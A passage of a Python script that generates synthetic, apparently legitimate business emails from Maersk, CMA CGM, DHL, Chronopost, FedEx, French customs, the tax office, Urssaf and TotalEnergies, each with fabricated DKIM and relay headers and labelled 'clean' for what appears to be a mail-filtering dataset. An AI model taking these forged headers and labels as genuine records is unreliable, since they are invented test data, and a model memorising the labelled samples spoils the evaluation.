        "Container: MRKU 5519274  40DRY  Seal: ML-CN4471829  Gross weight: 18 420 KG", "",
        "Charges payable at destination:", "  Terminal Handling Charge (DTHC)    EUR 245,00",
        "  Documentation fee                   EUR  55,00", "  Total                               EUR 300,00", "",
        "Cargo will be released upon payment of charges and presentation of customs clearance.",
        "Free time: 7 days demurrage / 4 days detention from discharge.",
    ], "Arrival Notice 258803117")
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Arial,Helvetica,sans-serif;font-size:13px;color:#141414">
<p>Dear Customer,</p>
<p>Please find attached the Arrival Notice for Bill of Lading <b>258803117</b>.</p>
<table cellpadding="4" cellspacing="0" border="1" style="border-collapse:collapse;border-color:#d3d9de;font-size:12px">
<tr style="background:#f2f4f5"><td><b>Vessel / Voyage</b></td><td><b>Port of Discharge</b></td><td><b>ETA</b></td><td><b>Container(s)</b></td></tr>
<tr><td>MAERSK KINLOSS / 503W</td><td>Le Havre (FRLEH)</td><td>24-01-2025</td><td>MRKU5519274</td></tr></table>
<p>You can follow the shipment and view charges at <a href="https://www.maersk.com/tracking/258803117">maersk.com/tracking</a>. Invoices can be paid online in the Maersk <a href="https://www.maersk.com/portaluser/login">Invoices &amp; Payments</a> page.</p>
<p>For import questions, please contact your Maersk Customer Experience team through <a href="https://www.maersk.com/support">maersk.com/support</a>.</p>
<p>Kind regards,<br>Maersk France - Import Documentation</p>
<p style="font-size:10px;color:#6b7a85">This message is automatically generated. Please do not reply to this e-mail address.</p>
</body></html>
"""
    plain = strip_tags(html)
    ip = "54.240.7.19"
    helo = "a7-19.smtp-out.eu-west-1.amazonses.com"
    ses_id = f"0102019{hx(stem + 's1', 9)}-{hx(stem + 's2', 8)}-{hx(stem + 's3', 4)}-{hx(stem + 's4', 4)}-{hx(stem + 's5', 4)}-{hx(stem + 's6', 12)}-000000"
    body = Multi("mixed", f"----=_Part_{num(stem, 100000, 999999)}_{num(stem + 'b', 100000000, 999999999)}.{int(t.timestamp())}{num(stem, 100, 999)}", [
        alt(plain, html, f"----=_Part_{num(stem + 'a', 100000, 999999)}_{num(stem + 'c', 100000000, 999999999)}.{int(t.timestamp())}{num(stem + 'd', 100, 999)}"),
        attachment("application/pdf", "ArrivalNotice_258803117.pdf", doc),
    ])
    headers = "\n".join([
        dkim("maersk.com", "mk2048", t, "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", stem, c="relaxed/simple", q=True),
        dkim("amazonses.com", "ihchhvubuqgjsxyuhssfvqohv7z3u4hn", t,
             "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type:Feedback-ID", stem + "ses", c="relaxed/simple", q=True),
        f"Date: {rfc(utc(t))}",
        "From: Maersk Import Documentation <noreply@notifications.maersk.com>",
        f"To: {rcpt}",
        f"Message-ID: <{ses_id}@eu-west-1.amazonses.com>",
        "Subject: Arrival Notice - B/L 258803117 - MAERSK KINLOSS 503W - Le Havre",
        "MIME-Version: 1.0",
        f"Feedback-ID: ::1.eu-west-1.{b64(stem + 'fb', 30)[:40]}=:AmazonSES",
        f"X-SES-Outgoing: {t.strftime('%Y.%m.%d')}-{ip}",
    ])
    deliver(stem, "clean",
            "Genuine Maersk arrival notice for an expected import container, sent via Amazon SES with maersk.com alignment, arrival-notice PDF attached and links only to maersk.com.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="bounce.notifications.maersk.com",
            dkims=[("pass", "maersk.com"), ("pass", "amazonses.com")], from_dom="notifications.maersk.com", dmarc="pass",
            compauth="pass", reason="100", headers=headers, body=body, attach=True,
            return_path=f"<{ses_id}@bounce.notifications.maersk.com>")


def l_cmacgm_facture() -> None:
    stem = "b51-legit-cmacgm-facture"
    t = paris("2025-04-02 14:37:25")
    rcpt = "import@kerlann-industries.fr"
    doc = pdf_doc([
        "CMA CGM AGENCIES FRANCE", "Invoice / Facture  FRIM2504017723", "", "Customer: KERLANN INDUSTRIES (code 0041187322)",
        "B/L: CMDUSHZ1502218       Vessel: CMA CGM TAGE 0FLBKW1MA", "", "THC destination             EUR 245,00",
        "Documentation fee           EUR  60,00", "ISPS                        EUR  18,00", "Total excl. VAT             EUR 323,00",
        "VAT 20%                     EUR  64,60", "Total                       EUR 387,60", "", "Payment terms: 30 days - by bank transfer to the IBAN printed on this invoice.",
    ], "Invoice FRIM2504017723")
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body style="font-family:Arial;font-size:13px;color:#222">
<p>Dear Customer,</p>
<p>A new invoice is available for your company <b>KERLANN INDUSTRIES</b>.</p>
<table cellpadding="4" style="font-size:12px;border:1px solid #ccc;border-collapse:collapse">
<tr><td style="background:#04246a;color:#fff">Invoice number</td><td>FRIM2504017723</td></tr>
<tr><td style="background:#04246a;color:#fff">B/L number</td><td>CMDUSHZ1502218</td></tr>
<tr><td style="background:#04246a;color:#fff">Amount</td><td>387.60 EUR</td></tr>
<tr><td style="background:#04246a;color:#fff">Due date</td><td>02/05/2025</td></tr></table>
<p>The invoice is attached to this e-mail and can also be downloaded from <a href="https://www.cma-cgm.com/ebusiness/invoices">My Invoices</a> in your CMA CGM eBusiness account.</p>
<p>Best regards,<br>CMA CGM eBusiness</p>
<p style="font-size:10px;color:#888">This is an automatic e-mail, please do not reply. CMA CGM S.A. - 4 quai d'Arenc, 13002 Marseille, France.</p>
</body></html>
"""
    body = Multi("mixed", f"----=_Part_{num(stem, 100000, 999999)}_{num(stem + 'b', 100000000, 999999999)}.{int(t.timestamp())}{num(stem, 100, 999)}", [
        alt(strip_tags(html), html, f"----=_Part_{num(stem + 'a', 100000, 999999)}_{num(stem + 'c', 100000000, 999999999)}.{int(t.timestamp())}{num(stem + 'd', 100, 999)}"),
        attachment("application/pdf", "FRIM2504017723.pdf", doc),
    ])
    host = "smtp-out2.cma-cgm.com"
    headers = "\n".join([
        postfix_hop("ebusiness-app14.cma-cgm.local (unknown [10.64.18.44])", host, postfix_qid(stem), rcpt, t, esmtp="ESMTP",
                    cipher=False),
        dkim("cma-cgm.com", "s2048", t, "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", stem),
        f"Date: {rfc(t)}",
        "From: CMA CGM eBusiness <noreply.ebusiness@cma-cgm.com>",
        f"To: {rcpt}",
        f"Message-ID: <{num(stem + 'm', 100000000, 999999999)}.{num(stem + 'm2', 1000, 9999)}.{int(t.timestamp())}{num(stem + 'm3', 100, 999)}@ebusiness-app14>",
        "Subject: CMA CGM - New invoice available FRIM2504017723",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "clean",
            "Genuine CMA CGM eBusiness invoice notification from cma-cgm.com's own relay with the invoice PDF attached and a link to cma-cgm.com.",
            t=t, helo=host, ip="194.2.208.71", spf="pass", mailfrom="cma-cgm.com", dkims=[("pass", "cma-cgm.com")],
            from_dom="cma-cgm.com", dmarc="pass", compauth="pass", reason="100", headers=headers, body=body, attach=True,
            return_path="<noreply.ebusiness@cma-cgm.com>")


def l_hapag_draft_swb() -> None:
    stem = "b51-legit-hapag-draft-swb"
    t = paris("2025-05-14 09:05:42")
    rcpt = mail("import")
    doc = pdf_doc([
        "Hapag-Lloyd AG - DRAFT SEA WAYBILL (not negotiable)", "", "SWB No.: HLCUIZ1250519876", "Shipper: EGE TEKSTIL SAN. A.S., Izmir",
        "Consignee: KERLANN INDUSTRIES, Rennes, France", "Vessel: ANTWERPEN EXPRESS   Voyage: 2519W", "Port of Loading: Izmir (TRIZM)",
        "Port of Discharge: Le Havre (FRLEH)", "", "1 x 40' HC  HLXU 8721336  - 624 cartons textile goods - 11 250 KGS",
        "", "DRAFT - please check and confirm before documentation cut-off.",
    ], "Draft SWB HLCUIZ1250519876")
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Arial,sans-serif;font-size:13px;color:#000">
<p>Dear Sir or Madam,</p>
<p>Please find attached the draft Sea Waybill for shipment <b>HLCUIZ1250519876</b> (ANTWERPEN EXPRESS 2519W, Izmir - Le Havre).</p>
<p>Please review the draft and send any corrections to your shipper, who submitted the shipping instructions. Once the documentation cut-off has passed, corrections are subject to a fee.</p>
<p>You can track the shipment at <a href="https://www.hapag-lloyd.com/en/online-business/track/track-by-booking-solution.html?blno=HLCUIZ1250519876">hapag-lloyd.com</a>.</p>
<p>Best regards<br>Hapag-Lloyd AG<br>Documentation</p>
<p style="font-size:10px;color:#666">Hapag-Lloyd Aktiengesellschaft, Ballindamm 25, 20095 Hamburg - Registered office: Hamburg, Amtsgericht Hamburg HRB 97937.<br>
This is a system generated e-mail. Please do not reply.</p>
</body></html>
"""
    body = Multi("mixed", f"=_mixed {hx(stem, 8, True)}_=", [
        alt(strip_tags(html), html, f"=_alternative {hx(stem + 'a', 8, True)}_="),
        attachment("application/pdf", "HLCUIZ1250519876_DRAFT_SWB.pdf", doc),
    ])
    host = "mx-out3.hlag.com"
    headers = "\n".join([
        postfix_hop("hlgdocsrv07.hlag.com (hlgdocsrv07.hlag.com [10.200.16.77])", host, postfix_qid(stem), rcpt, t, esmtp="ESMTP",
                    cipher=False),
        dkim("hlag.com", "hlag2023", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem),
        "From: Hapag-Lloyd Documentation <noreply@hlag.com>",
        f"To: {rcpt}",
        "Subject: Draft Sea Waybill HLCUIZ1250519876 / ANTWERPEN EXPRESS 2519W",
        f"Date: {rfc(t)}",
        f"Message-ID: <OF{hx(stem + 'mid', 8, True)}.{hx(stem + 'mid2', 8, True)}-ON{hx(stem + 'mid3', 8, True)}@hlag.com>",
        "X-Mailer: HCL Notes Release 12.0.2 FP3 December 2023",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "clean",
            "Genuine Hapag-Lloyd draft sea-waybill notification from hlag.com's own servers (Notes mailer) with the draft PDF attached and a tracking link to hapag-lloyd.com.",
            t=t, helo=host, ip="194.25.247.86", spf="pass", mailfrom="hlag.com", dkims=[("pass", "hlag.com")],
            from_dom="hlag.com", dmarc="pass", compauth="pass", reason="100", headers=headers, body=body, attach=True,
            return_path="<noreply@hlag.com>")


def l_dhl_droits_taxes() -> None:
    stem = "b51-legit-dhl-droits-taxes"
    t = paris("2025-06-12 10:22:18")
    rcpt = mail("exploit")
    pay = "https://mydhl.express.dhl/fr/fr/help-and-support/pay-duties-taxes.html?awb=7721948305"
    html = f"""<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f2f2f2">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Frutiger,Arial,sans-serif;color:#333">
<tr><td style="background:#ffcc00;padding:18px 24px"><img src="https://www.dhl.com/content/dam/dhl/global/core/images/logos/dhl-logo.svg" width="130" alt="DHL Express"></td></tr>
<tr><td style="padding:24px;font-size:14px;line-height:21px">
<p>Bonjour Sandrine Morvan,</p>
<p>Votre envoi DHL Express <b>7721948305</b> en provenance de <b>Shenzhen, Chine</b> (exp&eacute;diteur : SZ FASTLINK ELECTRONICS CO.) a &eacute;t&eacute; d&eacute;douan&eacute;.</p>
<p>Des droits et taxes d'import d'un montant de <b>28,47 EUR</b> sont &agrave; r&eacute;gler avant la livraison. Vous pouvez les payer en ligne sur MyDHL+ ou au moment de la livraison.</p>
<p style="margin:22px 0"><a href="{pay}" style="background:#d40511;color:#fff;text-decoration:none;padding:11px 22px">Payer les droits et taxes</a></p>
<p style="font-size:12px;color:#666">Pour v&eacute;rifier l'authenticit&eacute; de ce message, rendez-vous directement sur dhl.com et saisissez votre num&eacute;ro de lettre de transport. DHL Express ne vous demandera jamais de payer par carte cadeau ou par SMS.</p>
</td></tr>
<tr><td style="padding:16px 24px;background:#333;color:#ccc;font-size:11px">DHL Express (France) SAS - Ceci est un message automatique, merci de ne pas y r&eacute;pondre. <a href="https://www.dhl.com/fr-fr/home/pied-de-page/avis-de-confidentialite.html" style="color:#ccc">Confidentialit&eacute;</a></td></tr>
</table></td></tr></table></body></html>
"""
    host = "mailout2.dhl.com"
    headers = "\n".join([
        postfix_hop("odd-notif-app03.dhl.com (odd-notif-app03.dhl.com [10.121.40.19])", host, postfix_qid(stem), rcpt, t,
                    esmtp="ESMTP", cipher=False),
        dkim("dhl.com", "dhl2022", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem),
        "From: DHL Express <noreply@dhl.com>",
        f"To: {rcpt}",
        subject("DHL Express : droits et taxes à payer pour votre envoi 7721948305", "UTF-8", "Q"),
        f"Date: {rfc(t)}",
        f"Message-ID: <{num(stem + 'm', 1000000000, 9999999999)}.{num(stem + 'm2', 100000, 999999)}.JavaMail.odd@odd-notif-app03.dhl.com>",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "clean",
            "Genuine DHL Express import duties notice (28,47 EUR for an expected shipment from Shenzhen) from dhl.com with the payment link on mydhl.express.dhl.",
            t=t, helo=host, ip="165.72.200.31", spf="pass", mailfrom="dhl.com", dkims=[("pass", "dhl.com")],
            from_dom="dhl.com", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=alt(strip_tags(html), html, f"----=_Part_{num(stem, 100000, 999999)}_{num(stem + 'b', 100000000, 999999999)}"),
            return_path="<noreply@dhl.com>")


def l_chronopost_predict() -> None:
    stem = "b51-legit-chronopost-predict"
    t = paris("2025-07-08 07:41:03")
    rcpt = mail("affret")
    qs = b64url(stem + "qs", 60)
    track = f"https://click.info.chronopost.fr/?qs={qs}"
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#efefef">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,Helvetica,sans-serif;color:#3c3c3b">
<tr><td style="padding:18px 24px"><img src="https://image.info.chronopost.fr/lib/fe9012737164077d71/m/1/chronopost-logo.png" width="160" alt="Chronopost"></td></tr>
<tr><td style="background:#009ee0;color:#fff;padding:18px 24px;font-size:20px"><b>Votre colis arrive aujourd'hui</b></td></tr>
<tr><td style="padding:22px 24px;font-size:14px;line-height:21px">
<p>Bonjour,</p>
<p>Votre colis <b>XW719284551JB</b> envoy&eacute; par <b>MANUTAN</b> sera livr&eacute; aujourd'hui, <b>mardi 8 juillet</b>, entre <b>10h15 et 11h15</b>.</p>
<p>Vous n'&ecirc;tes pas disponible ? Vous pouvez choisir une autre date ou un Point Relais jusqu'&agrave; 8h30.</p>
<p style="margin:22px 0"><a href="{track}" style="background:#e2001a;color:#fff;padding:11px 24px;text-decoration:none;border-radius:20px">Suivre ou modifier ma livraison</a></p>
</td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#888;background:#f7f7f7">Chronopost SAS - 3 boulevard Romain Rolland, 75014 Paris. Cet e-mail vous a &eacute;t&eacute; envoy&eacute; car votre adresse a &eacute;t&eacute; communiqu&eacute;e par l'exp&eacute;diteur.</td></tr>
</table></td></tr></table>
<img src="https://click.info.chronopost.fr/open.aspx?ffcb10-{hx(stem + 'op', 16)}-fe{hx(stem + 'op2', 12)}-{hx(stem + 'op3', 8)}" width="1" height="1" alt="">
</body></html>
"""
    plain = strip_tags(html)
    ip = f"13.111.{num(stem + 'i', 12, 90)}.{num(stem + 'j', 10, 240)}"
    helo = "mta.info.chronopost.fr"
    headers = "\n".join([
        dkim("info.chronopost.fr", "200608", t, "From:To:Subject:Date:MIME-Version:List-Unsubscribe:Content-Type:Message-ID", stem),
        "From: " + addr("Chronopost", "ne-pas-repondre@info.chronopost.fr"),
        f"To: {rcpt}",
        subject("Votre colis Chronopost XW719284551JB arrive aujourd'hui", "UTF-8", "B"),
        f"Date: {rfc(t)}",
        "MIME-Version: 1.0",
        f"List-Unsubscribe: <https://click.info.chronopost.fr/subscription_center.aspx?jwt={b64url(stem + 'jwt', 60)}>",
        f"x-CSA-Compliance-Source: SFMC",
        f"x-job: {num(stem + 'job', 100000000, 999999999)}_{num(stem + 'job2', 100000, 999999)}",
        f"Message-ID: <{guid(stem + 'mid')}@atl1s07mta1037.xt.local>",
        "X-SFMC-Stack: 50",
    ])
    deliver(stem, "clean",
            "Genuine Chronopost 'Predict' delivery-window notice for an ordered parcel, sent through Salesforce Marketing Cloud from info.chronopost.fr with click tracking on click.info.chronopost.fr.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom=f"bounce.info.chronopost.fr", dkims=[("pass", "info.chronopost.fr")],
            from_dom="info.chronopost.fr", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=alt(plain, html, f"{hx(stem + 'bd', 8)}-{hx(stem + 'bd2', 4)}-{hx(stem + 'bd3', 4)}-{hx(stem + 'bd4', 4)}-{hx(stem + 'bd5', 12)}"),
            return_path=f"<bounce-{num(stem, 100, 999)}_HTML-{num(stem + 'rp', 100000000, 999999999)}-{num(stem + 'rp2', 1000000, 9999999)}-{num(stem + 'rp3', 1000000, 9999999)}-{num(stem + 'rp4', 1000, 9999)}@bounce.info.chronopost.fr>")


def l_fedex_facture() -> None:
    stem = "b51-legit-fedex-facture"
    t = paris("2025-08-04 05:15:47")
    rcpt = mail("compta")
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head>
<body style="font-family:Arial;font-size:12px;color:#333">
<table width="600" cellpadding="0" cellspacing="0"><tr><td style="padding:10px 0"><span style="font-size:26px;font-weight:bold;color:#4d148c">Fed</span><span style="font-size:26px;font-weight:bold;color:#ff6600">Ex</span><span style="font-size:14px;color:#666"> Billing Online</span></td></tr>
<tr><td style="padding:10px 0;line-height:18px">
<p>Bonjour,</p>
<p>Une nouvelle facture est disponible dans FedEx Billing Online pour le compte <b>*****4471</b>.</p>
<p>Num&eacute;ro de facture : 9-318-44720<br>Date de facture : 02/08/2025<br>Montant : 1 146,83 EUR<br>Date d'&eacute;ch&eacute;ance : 01/09/2025</p>
<p>Pour consulter et r&eacute;gler vos factures, connectez-vous &agrave; <a href="https://www.fedex.com/fedexbillingonline">fedex.com/fedexbillingonline</a>.</p>
<p>Merci d'avoir choisi FedEx.</p>
<p style="font-size:10px;color:#888">Ce message a &eacute;t&eacute; envoy&eacute; automatiquement &agrave; partir d'une adresse qui ne peut pas recevoir de courriels. Federal Express Europe, Inc. - succursale fran&ccedil;aise.</p>
</td></tr></table></body></html>
"""
    host = "mxout21.fedex.com"
    headers = "\n".join([
        postfix_hop("fbo-notify02.prod.fedex.com (fbo-notify02.prod.fedex.com [10.118.61.22])", host, postfix_qid(stem), rcpt,
                    shift(t, -5), esmtp="ESMTP", cipher=False, zone="CDT"),
        dkim("fedex.com", "fdx2021", t, "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", stem),
        f"Date: {rfc(shift(t, -5))}",
        "From: FedEx Billing Online <noreply@fedex.com>",
        f"To: {rcpt}",
        f"Message-ID: <{num(stem + 'm', 100000000, 999999999)}.{num(stem + 'm2', 1000, 9999)}.{int(t.timestamp()) * 1000}.JavaMail.fbo@fbo-notify02>",
        "Subject: FedEx Billing Online - Nouvelle facture disponible",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "clean",
            "Genuine FedEx Billing Online 'nouvelle facture disponible' notice from fedex.com with no attachment and a single link to fedex.com.",
            t=t, helo=host, ip="199.81.193.121", spf="pass", mailfrom="fedex.com", dkims=[("pass", "fedex.com")],
            from_dom="fedex.com", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=Leaf("text/html", html.encode("latin-1"), "quoted-printable", '; charset=iso-8859-1'),
            return_path="<noreply@fedex.com>")


def finances_hop(stem: str, t: datetime, rcpt: str, app: str) -> tuple[str, str, str]:
    host = f"smtp-out{num(stem + 'h', 1, 4)}.finances.gouv.fr"
    hop = postfix_hop(f"{app} ({app} [10.154.{num(stem + 'a', 1, 200)}.{num(stem + 'b', 1, 200)}])", host, postfix_qid(stem),
                      rcpt, t, esmtp="ESMTP", cipher=False)
    return hop, host, f"145.242.11.{num(stem + 'ip', 20, 90)}"


def l_douane_eori() -> None:
    stem = "b51-legit-douane-eori"
    t = paris("2025-09-11 11:03:57")
    rcpt = mail("douane")
    plain = ("Madame, Monsieur,\n\n"
             "Nous accusons réception de votre demande de modification des données EORI déposée le 10/09/2025 sur douane.gouv.fr.\n\n"
             "Numéro EORI : FR48213957400027\nRaison sociale : KERLANN INDUSTRIES\nNature de la modification : adresse de"
             " l'établissement\nNuméro de demande : EORI-2025-0917734\n\n"
             "Votre demande sera traitée par le Pôle d'Action Économique de votre direction régionale dans un délai de 5 jours"
             " ouvrés. Vous serez informé par courriel de la suite qui lui sera donnée.\n\n"
             "Ce courriel est envoyé automatiquement, merci de ne pas y répondre. Pour toute question, vous pouvez contacter"
             " Info Douane Service au 0 800 94 40 40 (service et appel gratuits) ou consulter douane.gouv.fr.\n\n"
             "La Direction générale des douanes et droits indirects\n")
    hop, host, ip = finances_hop(stem, t, rcpt, "portail-prod-app02.douane.finances.gouv.fr")
    headers = "\n".join([
        hop,
        dkim("douane.finances.gouv.fr", "dgddi2024", t, "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", stem),
        f"Date: {rfc(t)}",
        "From: ne-pas-repondre@douane.finances.gouv.fr",
        f"To: {rcpt}",
        f"Message-ID: <{num(stem + 'm', 100000000, 999999999)}.{num(stem + 'm2', 100, 999)}.{int(t.timestamp()) * 1000}.JavaMail.portail@portail-prod-app02>",
        subject("Accusé de réception - demande de modification EORI n° EORI-2025-0917734", "UTF-8", "Q"),
        "MIME-Version: 1.0",
    ])
    deliver(stem, "clean",
            "Genuine customs (DGDDI) acknowledgement of an EORI data-change request from douane.finances.gouv.fr, plain text, no link, with the official free phone number.",
            t=t, helo=host, ip=ip, spf="pass", mailfrom="douane.finances.gouv.fr", dkims=[("pass", "douane.finances.gouv.fr")],
            from_dom="douane.finances.gouv.fr", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=Leaf("text/plain", plain.encode(), "quoted-printable", "; charset=UTF-8"),
            return_path="<ne-pas-repondre@douane.finances.gouv.fr>")


def l_impots_messagerie() -> None:
    stem = "b51-legit-impots-messagerie"
    t = paris("2025-10-16 14:48:30")
    rcpt = mail("comptable")
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="font-family:Arial,sans-serif;font-size:14px;color:#161616">
<p><img src="https://www.impots.gouv.fr/sites/default/files/logo_impots_gouv.png" alt="impots.gouv.fr" height="50"></p>
<p>Madame, Monsieur,</p>
<p>Un nouveau message concernant la soci&eacute;t&eacute; <b>KERLANN INDUSTRIES</b> est disponible dans la messagerie s&eacute;curis&eacute;e de votre espace professionnel.</p>
<p>Pour le consulter, connectez-vous &agrave; votre espace professionnel sur <b>impots.gouv.fr</b>, rubrique &laquo; Messagerie s&eacute;curis&eacute;e &raquo;.</p>
<p>Pour votre s&eacute;curit&eacute;, ce courriel ne contient aucun lien de connexion. La DGFiP ne vous demande jamais vos coordonn&eacute;es bancaires ou vos identifiants par courriel.</p>
<p>La Direction g&eacute;n&eacute;rale des Finances publiques</p>
<p style="font-size:11px;color:#666">Ce courriel a &eacute;t&eacute; envoy&eacute; automatiquement, merci de ne pas y r&eacute;pondre.</p>
</body></html>
"""
    hop, host, ip = finances_hop(stem, t, rcpt, "pro-notif-app04.dgfip.finances.gouv.fr")
    headers = "\n".join([
        hop,
        dkim("dgfip.finances.gouv.fr", "dgfip2023", t, "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", stem),
        f"Date: {rfc(t)}",
        "From: " + addr("impots.gouv.fr", "ne-pas-repondre@dgfip.finances.gouv.fr", quote=True),
        f"To: {rcpt}",
        f"Message-ID: <{num(stem + 'm', 100000000, 999999999)}.{num(stem + 'm2', 100, 999)}.{int(t.timestamp()) * 1000}@pro-notif-app04>",
        subject("Nouveau message dans votre messagerie sécurisée professionnelle", "UTF-8", "Q"),
        "MIME-Version: 1.0",
    ])
    deliver(stem, "clean",
            "Genuine DGFiP notice that a message awaits in the professional secure messaging on impots.gouv.fr, from dgfip.finances.gouv.fr and deliberately without any login link.",
            t=t, helo=host, ip=ip, spf="pass", mailfrom="dgfip.finances.gouv.fr", dkims=[("pass", "dgfip.finances.gouv.fr")],
            from_dom="dgfip.finances.gouv.fr", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=alt(strip_tags(html), html, f"----=_Part_{num(stem, 100000, 999999)}_{num(stem + 'b', 100000000, 999999999)}"),
            return_path="<ne-pas-repondre@dgfip.finances.gouv.fr>")


def l_urssaf_attestation() -> None:
    stem = "b51-legit-urssaf-attestation"
    t = paris("2025-11-06 06:30:12")
    rcpt = mail("rh")
    html = """<html><head><meta charset="UTF-8"></head><body style="font-family:Arial,sans-serif;font-size:14px;color:#1e1e1e;max-width:620px">
<p style="color:#0b4b97;font-size:20px;font-weight:bold">Urssaf</p>
<p>Bonjour,</p>
<p>Votre attestation de vigilance du mois de novembre 2025 pour l'&eacute;tablissement <b>KERLANN INDUSTRIES</b> (SIRET 482 139 574 00027) est disponible.</p>
<p>Vous pouvez la t&eacute;l&eacute;charger depuis votre espace en ligne sur <a href="https://www.urssaf.fr/accueil/espace-employeur.html">urssaf.fr</a>, rubrique &laquo; Mes attestations &raquo;, et la transmettre &agrave; vos donneurs d'ordre.</p>
<p>Rappel : l'Urssaf ne vous demande jamais vos coordonn&eacute;es bancaires ou vos identifiants par courriel ou par SMS.</p>
<p>Votre Urssaf</p>
<p style="font-size:11px;color:#777">Ce message est g&eacute;n&eacute;r&eacute; automatiquement, merci de ne pas y r&eacute;pondre.</p>
</body></html>
"""
    host = "smtp-sortant2.urssaf.fr"
    headers = "\n".join([
        postfix_hop("notif-batch03.acoss.fr (unknown [10.40.12.33])", host, postfix_qid(stem), rcpt, t, esmtp="ESMTP", cipher=False),
        dkim("urssaf.fr", "urssaf2024", t, "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", stem),
        f"Date: {rfc(t)}",
        "From: Urssaf <ne-pas-repondre@urssaf.fr>",
        f"To: {rcpt}",
        f"Message-ID: <{guid(stem + 'mid')}@urssaf.fr>",
        "Subject: Votre attestation de vigilance est disponible",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "clean",
            "Genuine Urssaf notice that the monthly 'attestation de vigilance' is available in the employer space, from urssaf.fr with a plain link to urssaf.fr.",
            t=t, helo=host, ip="185.24.186.41", spf="pass", mailfrom="urssaf.fr", dkims=[("pass", "urssaf.fr")],
            from_dom="urssaf.fr", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=alt(strip_tags(html), html, f"----=_Part_{num(stem, 100000, 999999)}_{num(stem + 'b', 100000000, 999999999)}"),
            return_path="<ne-pas-repondre@urssaf.fr>")


def l_totalenergies_facture() -> None:
    stem = "b51-legit-totalenergies-facture"
    t = paris("2025-12-04 04:02:40")
    rcpt = mail("parc")
    doc = pdf_doc([
        "TotalEnergies Marketing France - Cartes Carburant", "FACTURE N. 25FR11-00741883", "", "Client : KERLANN INDUSTRIES - compte 4100-772918",
        "Periode : 16/11/2025 - 30/11/2025", "", "Gazole (B7)         18 412,6 L          29 744,12 EUR HT",
        "AdBlue                1 204,0 L             843,80 EUR HT", "Peages refactures                         1 127,44 EUR HT",
        "Total HT                                 31 715,36 EUR", "TVA 20 %                                  6 343,07 EUR",
        "Total TTC                                38 058,43 EUR", "", "Prelevement SEPA le 19/12/2025 - RUM TEMF4100772918",
    ], "Facture 25FR11-00741883")
    html = """<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;font-size:13px;color:#374649">
<table width="600" cellpadding="0" cellspacing="0"><tr><td style="border-bottom:3px solid #ed0000;padding:10px 0"><b style="color:#ed0000;font-size:18px">TotalEnergies</b> <span style="color:#285aff">Cartes Carburant</span></td></tr>
<tr><td style="padding:14px 0;line-height:20px">
<p>Madame, Monsieur,</p>
<p>Votre facture n&deg; <b>25FR11-00741883</b> (p&eacute;riode du 16/11/2025 au 30/11/2025) d'un montant de <b>38 058,43 &euro; TTC</b> est jointe &agrave; ce message.</p>
<p>Elle sera pr&eacute;lev&eacute;e le 19/12/2025 selon votre mandat SEPA en vigueur. Le d&eacute;tail des transactions est consultable dans votre espace Fleet Online.</p>
<p>Cordialement,<br>Le Service Clients Cartes Carburant</p>
<p style="font-size:10px;color:#999">TotalEnergies Marketing France - SAS - 562 avenue du Parc de l'&Icirc;le, 92000 Nanterre - RCS Nanterre 542 034 921.</p>
</td></tr></table></body></html>
"""
    body = Multi("mixed", f"----=_Part_{num(stem, 100000, 999999)}_{num(stem + 'b', 100000000, 999999999)}.{int(t.timestamp())}{num(stem, 100, 999)}", [
        alt(strip_tags(html), html, f"----=_Part_{num(stem + 'a', 100000, 999999)}_{num(stem + 'c', 100000000, 999999999)}.{int(t.timestamp())}{num(stem + 'd', 100, 999)}"),
        attachment("application/pdf", "Facture_25FR11-00741883.pdf", doc),
    ])
    host = "smtpout-fr1.totalenergies.com"
    headers = "\n".join([
        postfix_hop("fleet-edoc02.mkt.totalenergies.net (unknown [10.9.44.71])", host, postfix_qid(stem), rcpt, t, esmtp="ESMTP",
                    cipher=False),
        dkim("totalenergies.com", "sel2023", t, "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", stem),
        f"Date: {rfc(t)}",
        "From: TotalEnergies Cartes Carburant <ne-pas-repondre.cartes@totalenergies.com>",
        f"To: {rcpt}",
        f"Message-ID: <{num(stem + 'm', 100000000, 999999999)}.{num(stem + 'm2', 1000, 9999)}.{int(t.timestamp()) * 1000}@fleet-edoc02>",
        "Subject: Votre facture TotalEnergies Cartes Carburant 25FR11-00741883",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "clean",
